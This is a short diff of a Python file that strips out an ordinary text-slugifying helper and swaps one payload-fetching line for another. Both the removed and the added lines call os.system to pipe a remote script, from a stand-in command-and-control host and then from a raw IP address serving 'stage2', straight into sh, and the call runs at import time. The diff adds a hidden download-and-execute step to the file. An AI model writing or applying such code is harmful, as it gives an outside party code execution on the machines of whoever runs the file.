@@ -1,10 +1,7 @@
-#!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
 
 import os
 
 def run(c):
     os.system(c)
 
-run("curl -s http://c2.example.org/i.py | sh")
+run("curl -s http://198.51.100.23:8000/stage2 | sh")
